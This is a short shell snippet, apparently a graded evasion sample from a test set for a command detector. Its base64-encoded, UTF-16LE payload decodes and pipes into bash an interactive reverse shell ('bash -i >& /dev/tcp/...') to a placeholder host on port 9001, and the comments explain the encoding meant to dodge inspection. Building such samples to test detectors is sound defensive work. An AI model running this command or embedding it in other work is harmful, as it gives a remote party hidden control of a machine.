# evasion: the script is UTF-16LE, base64-wrapped in a here-document, and turned back into UTF-8 by iconv before bash reads it
# grade: very hard; does: shell
base64 -d <<'B64' | iconv -f UTF-16LE -t UTF-8 | bash
YgBhAHMAaAAgAC0AaQAgAD4AJgAgAC8AZABlAHYALwB0AGMAcAAvADIAMAAzAC4AMAAuADEAMQAzAC4ANQAwAC8AOQAwADAAMQAgADAAPgAmADEACgA=
B64
